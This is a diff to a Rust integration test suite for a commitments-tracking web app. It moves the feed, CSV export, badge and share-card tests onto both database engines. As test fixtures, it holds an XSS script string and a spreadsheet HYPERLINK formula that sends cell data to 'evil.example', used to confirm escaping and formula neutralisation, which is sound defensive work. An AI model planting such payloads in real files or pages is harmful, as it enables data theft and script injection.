@@ -3,7 +3,7 @@
 //! through the whole router over a real SQLite database with the shipped seed.
 
 use crate::support;
-use crate::support::checker_python;
+use crate::support::{both_engines, checker_python, on_engine};
 
 use std::path::PathBuf;
 use std::process::Command;
@@ -14,22 +14,19 @@ use axum::http::{header, Request, StatusCode};
 use axum::Router;
 use domain::{Slug, Status, Theme};
 use server::cards;
-use sqlx::SqlitePool;
 
 use support::{Answer, PUBLIC_URL};
 const ATOM: &str = "application/atom+xml; charset=utf-8";
 const HOSTILE_NOTE: &str = r#"<script>alert(1)</script> & "quotes""#;
 
-async fn app(pool: SqlitePool) -> Router {
-    support::seeded_site(pool).await
+async fn app(db: store::Db) -> Router {
+    support::seeded_site_of(db).await
 }
 
 /// The seeded site and its share-card cache.
-async fn app_and_cards(pool: SqlitePool) -> (Router, cards::CardCache) {
-    assert!(server::seed::seed_if_empty(&store::Db::new(pool.clone()))
-        .await
-        .unwrap());
-    let state = support::state(pool, support::PUBLIC_URL, "target/site");
+async fn app_and_cards(db: store::Db) -> (Router, cards::CardCache) {
+    assert!(server::seed::seed_if_empty(&db).await.unwrap());
+    let state = support::state_of(db, support::PUBLIC_URL, "target/site");
     let cards = state.cards.clone();
     (server::router(state), cards)
 }
@@ -52,46 +49,58 @@ fn bilateral_slug() -> String {
         .to_string()
 }
 
-async fn id_of(pool: &SqlitePool, sql: &'static str, key: &str) -> i64 {
-    sqlx::query_scalar(sql).bind(key).fetch_one(pool).await.unwrap()
+async fn id_of(db: &store::Db, sql: &'static str, key: &str) -> i64 {
+    on_engine!(db, |pool| sqlx::query_scalar(sql)
+        .bind(key)
+        .fetch_one(pool)
+        .await
+        .unwrap())
 }
 
 /// Records a status change the way the database layer's own tests do, a
 /// day after the newest one stored (whatever day the seed was loaded on),
 /// and returns its id.
-async fn append_status(pool: &SqlitePool, slug: &str, party: &str, status: Status, note: &str) -> i64 {
-    let commitment = id_of(pool, "SELECT id FROM commitments WHERE slug = ?", slug).await;
-    let party = id_of(pool, "SELECT id FROM parties WHERE code = ?", party).await;
-    let recorded_at = newest_change(pool).await + chrono::Days::new(1);
-    sqlx::query_scalar(
+async fn append_status(db: &store::Db, slug: &str, party: &str, status: Status, note: &str) -> i64 {
+    let commitment = id_of(db, "SELECT id FROM commitments WHERE slug = $1", slug).await;
+    let party = id_of(db, "SELECT id FROM parties WHERE code = $1", party).await;
+    let recorded_at = newest_change(db).await + chrono::Days::new(1);
+    // Stored as text on both engines, as SQLite's driver writes a time.
+    let recorded_at = recorded_at.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, false);
+    on_engine!(db, |pool| sqlx::query_scalar(
         "INSERT INTO status_updates (commitment_id, party_id, status, effective_on, note, recorded_by, recorded_at)
-         VALUES (?, ?, ?, '2026-02-01', ?, 'reuse tester', ?) RETURNING id",
+         VALUES ($1, $2, $3, '2026-02-01', $4, 'reuse tester', $5) RETURNING id",
     )
     .bind(commitment)
     .bind(party)
     .bind(status.code())
     .bind(note)
-    .bind(recorded_at)
+    .bind(&recorded_at)
     .fetch_one(pool)
     .await
-    .unwrap()
+    .unwrap())
 }
 
 /// When the newest status change was recorded.
-async fn newest_change(pool: &SqlitePool) -> chrono::DateTime<chrono::Utc> {
-    sqlx::query_scalar("SELECT MAX(recorded_at) FROM status_updates")
-        .fetch_one(pool)
-        .await
-        .unwrap()
+async fn newest_change(db: &store::Db) -> chrono::DateTime<chrono::Utc> {
+    let newest: String = on_engine!(db, |pool| sqlx::query_scalar(
+        "SELECT MAX(recorded_at) FROM status_updates"
+    )
+    .fetch_one(pool)
+    .await
+    .unwrap());
+    newest.parse().unwrap()
 }
 
-async fn set_title(pool: &SqlitePool, slug: &str, title: &str) {
-    sqlx::query("UPDATE commitments SET title = ? WHERE slug = ?")
-        .bind(title)
-        .bind(slug)
-        .execute(pool)
-        .await
-        .unwrap();
+async fn set_title(db: &store::Db, slug: &str, title: &str) {
+    on_engine!(db, |pool| sqlx::query(
+        "UPDATE commitments SET title = $1 WHERE slug = $2"
+    )
+    .bind(title)
+    .bind(slug)
+    .execute(pool)
+    .await
+    .unwrap()
+    .rows_affected());
 }
 
 // ---------------------------------------------------------------- feeds
@@ -158,15 +167,15 @@ fn expected_entries(changes: &[domain::StatusChangeEntry]) -> serde_json::Value 
         .collect()
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn site_feed_is_clean_atom_listing_every_change_newest_first(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(site_feed_is_clean_atom_listing_every_change_newest_first);
+async fn site_feed_is_clean_atom_listing_every_change_newest_first(db: store::Db) {
+    let app = app(db.clone()).await;
     let feed = get(&app, "/feed.atom").await;
     assert_eq!(feed.status, StatusCode::OK, "{}", feed.text());
     assert_eq!(feed.header(header::CONTENT_TYPE), ATOM);
 
     let seeded_changes: usize = shipped().commitments.iter().map(|c| c.status.len()).sum();
-    let changes = store::commitments::list_recent_status_changes(&pool, None, 100)
+    let changes = store::commitments::list_recent_status_changes(&db, None, 100)
         .await
         .unwrap();
     assert_eq!(changes.len(), seeded_changes);
@@ -186,9 +195,9 @@ async fn site_feed_is_clean_atom_listing_every_change_newest_first(pool: SqliteP
     assert_eq!(ids.len(), seeded_changes, "entry ids are unique");
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn commitment_feed_lists_only_that_commitments_changes(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(commitment_feed_lists_only_that_commitments_changes);
+async fn commitment_feed_lists_only_that_commitments_changes(db: store::Db) {
+    let app = app(db.clone()).await;
     let data = shipped();
     let commitment = data.commitments.iter().find(|c| c.owed_by.len() == 2).unwrap();
     let path = format!("/commitments/{}/feed.atom", commitment.slug);
@@ -196,7 +205,7 @@ async fn commitment_feed_lists_only_that_commitments_changes(pool: SqlitePool) {
     assert_eq!(feed.status, StatusCode::OK, "{}", feed.text());
     assert_eq!(feed.header(header::CONTENT_TYPE), ATOM);
 
-    let changes = store::commitments::list_recent_status_changes(&pool, Some(&commitment.slug), 100)
+    let changes = store::commitments::list_recent_status_changes(&db, Some(&commitment.slug), 100)
         .await
         .unwrap();
     assert_eq!(changes.len(), commitment.status.len());
@@ -230,12 +239,12 @@ async fn commitment_feed_lists_only_that_commitments_changes(pool: SqlitePool) {
     }
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn a_new_change_tops_both_feeds_with_its_markup_escaped(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(a_new_change_tops_both_feeds_with_its_markup_escaped);
+async fn a_new_change_tops_both_feeds_with_its_markup_escaped(db: store::Db) {
+    let app = app(db.clone()).await;
     let slug = bilateral_slug();
-    set_title(&pool, &slug, "Talks <b>&</b> more").await;
-    let id = append_status(&pool, &slug, "kr", Status::Stalled, HOSTILE_NOTE).await;
+    set_title(&db, &slug, "Talks <b>&</b> more").await;
+    let id = append_status(&db, &slug, "kr", Status::Stalled, HOSTILE_NOTE).await;
 
     for path in ["/feed.atom".to_owned(), format!("/commitments/{slug}/feed.atom")] {
         let feed = get(&app, &path).await;
@@ -250,7 +259,7 @@ async fn a_new_change_tops_both_feeds_with_its_markup_escaped(pool: SqlitePool) 
 
         let slug = Slug::parse(&slug).unwrap();
         let scope = path.starts_with("/commitments").then_some(&slug);
-        let changes = store::commitments::list_recent_status_changes(&pool, scope, 100)
+        let changes = store::commitments::list_recent_status_changes(&db, scope, 100)
             .await
             .unwrap();
         assert_eq!(changes[0].id, id, "{path}: the new change comes first");
@@ -279,15 +288,15 @@ async fn a_new_change_tops_both_feeds_with_its_markup_escaped(pool: SqlitePool) 
         let updated = chrono::DateTime::parse_from_rfc3339(parsed["updated"].as_str().unwrap()).unwrap();
         assert_eq!(
             updated,
-            newest_change(&pool).await,
+            newest_change(&db).await,
             "{path}: the feed is as new as its newest change"
         );
     }
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn unknown_or_malformed_commitments_are_404s(pool: SqlitePool) {
-    let app = app(pool).await;
+both_engines!(unknown_or_malformed_commitments_are_404s);
+async fn unknown_or_malformed_commitments_are_404s(db: store::Db) {
+    let app = app(db).await;
     for slug in [
         "no-such-commitment",
         "UPPER-CASE",
@@ -347,11 +356,11 @@ fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
     rows.iter().map(|row| row[index].clone()).collect()
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn csv_export_round_trips_every_commitment(pool: SqlitePool) {
+both_engines!(csv_export_round_trips_every_commitment);
+async fn csv_export_round_trips_every_commitment(db: store::Db) {
     // The day after the shipped due dates: some rows are overdue, some not.
     let today = chrono::NaiveDate::from_ymd_opt(2027, 1, 1).unwrap();
-    let app = support::seeded_site_on(pool, today, server::Limits::default()).await;
+    let app = support::seeded_site_on_of(db, today, server::Limits::default()).await;
     let answer = get(&app, "/export/commitments.csv").await;
     assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
     assert_eq!(answer.header(header::CONTENT_TYPE), "text/csv; charset=utf-8");
@@ -416,9 +425,9 @@ async fn csv_export_round_trips_every_commitment(pool: SqlitePool) {
     );
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn csv_export_takes_the_list_filters(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(csv_export_takes_the_list_filters);
+async fn csv_export_takes_the_list_filters(db: store::Db) {
+    let app = app(db.clone()).await;
     let data = shipped();
 
     let answer = get(&app, "/export/commitments.csv?theme=security").await;
@@ -481,12 +490,12 @@ async fn csv_export_takes_the_list_filters(pool: SqlitePool) {
     }
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn csv_cells_that_look_like_formulas_are_neutralised(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(csv_cells_that_look_like_formulas_are_neutralised);
+async fn csv_cells_that_look_like_formulas_are_neutralised(db: store::Db) {
+    let app = app(db.clone()).await;
     let slug = bilateral_slug();
     let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click me")"#;
-    set_title(&pool, &slug, formula).await;
+    set_title(&db, &slug, formula).await;
     let answer = get(&app, "/export/commitments.csv").await;
     assert_eq!(answer.status, StatusCode::OK);
     let (_, rows) = read_csv(&answer);
@@ -504,17 +513,17 @@ async fn csv_cells_that_look_like_formulas_are_neutralised(pool: SqlitePool) {
 
 // ---------------------------------------------------------------- badge
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn badge_shows_each_partys_status_escaped(pool: SqlitePool) {
-    let app = app(pool.clone()).await;
+both_engines!(badge_shows_each_partys_status_escaped);
+async fn badge_shows_each_partys_status_escaped(db: store::Db) {
+    let app = app(db.clone()).await;
     let slug = bilateral_slug();
-    append_status(&pool, &slug, "cn", Status::InProgress, "n").await;
+    append_status(&db, &slug, "cn", Status::InProgress, "n").await;
     let badge = get(&app, &format!("/commitments/{slug}/badge.svg")).await;
     assert_eq!(badge.status, StatusCode::OK, "{}", badge.text());
     assert_eq!(badge.header(header::CONTENT_TYPE), "image/svg+xml");
     assert_eq!(badge.header(header::CACHE_CONTROL), "public, max-age=300");
     let svg = badge.text();
-    let record = store::commitments::find_commitment_by_slug(&pool, &Slug::parse(&slug).unwrap())
+    let record = store::commitments::find_commitment_by_slug(&db, &Slug::parse(&slug).unwrap())
         .await
         .unwrap()
         .unwrap();
@@ -527,7 +536,7 @@ async fn badge_shows_each_partys_status_escaped(pool: SqlitePool) {
     assert!(svg.contains(r#"role="img""#) && svg.contains("aria-label=\"Accord: "));
     assert!(svg.contains("<title>Accord: "));
 
-    set_title(&pool, &slug, "Talks <b>&</b> more").await;
+    set_title(&db, &slug, "Talks <b>&</b> more").await;
     let svg = get(&app, &format!("/commitments/{slug}/badge.svg")).await.text();
     assert!(!svg.contains("<b>"), "{svg}");
     assert!(svg.contains("Talks &lt;b&gt;&amp;&lt;/b&gt; more"), "{svg}");
@@ -548,9 +557,9 @@ fn decode_png(bytes: &[u8]) -> (u32, u32, Vec<u8>) {
     (frame.width, frame.height, pixels)
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes(pool: SqlitePool) {
-    let (app, cards) = app_and_cards(pool.clone()).await;
+both_engines!(share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes);
+async fn share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes(db: store::Db) {
+    let (app, cards) = app_and_cards(db.clone()).await;
     let slug = bilateral_slug();
     let path = format!("/commitments/{slug}/card.png");
 
@@ -580,11 +589,14 @@ async fn share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes(poo
     assert_eq!(after_second.hits, after_first.hits + 1);
 
     // An edit bumps the version: a fresh card, replacing the old one.
-    sqlx::query("UPDATE commitments SET title = 'A retitled commitment', version = version + 1 WHERE slug = ?")
-        .bind(&slug)
-        .execute(&pool)
-        .await
-        .unwrap();
+    on_engine!(db, |pool| sqlx::query(
+        "UPDATE commitments SET title = 'A retitled commitment', version = version + 1 WHERE slug = $1"
+    )
+    .bind(&slug)
+    .execute(pool)
+    .await
+    .unwrap()
+    .rows_affected());
     let third = get(&app, &path).await;
     assert_eq!(third.status, StatusCode::OK);
     assert_ne!(third.body, first.body);
@@ -594,17 +606,17 @@ async fn share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes(poo
     assert_eq!(decode_png(&third.body).0, 1200);
 
     // A status change stored without a version bump still shows.
-    append_status(&pool, &slug, "kr", Status::Fulfilled, "n").await;
+    append_status(&db, &slug, "kr", Status::Fulfilled, "n").await;
     let fourth = get(&app, &path).await;
     assert_ne!(fourth.body, third.body);
     assert_eq!(cards.stats().renders, after_third.renders + 1);
 }
 
-#[sqlx::test(migrations = "../migrations/sqlite")]
-async fn badge_and_card_are_drawn_in_the_requests_language(pool: SqlitePool) {
+both_engines!(badge_and_card_are_drawn_in_the_requests_language);
+async fn badge_and_card_are_drawn_in_the_requests_language(db: store::Db) {
     let slug = bilateral_slug();
-    let (english, cards) = app_and_cards(pool.clone()).await;
-    set_title(&pool, &slug, "A card in two languages").await;
+    let (english, cards) = app_and_cards(db.clone()).await;
+    set_title(&db, &slug, "A card in two languages").await;
     let badge = get(&english, &format!("/commitments/{slug}/badge.svg")).await;
     assert_eq!(badge.status, StatusCode::OK);
     assert!(badge.text().contains(r#"xml:lang="en""#), "{}", badge.text());
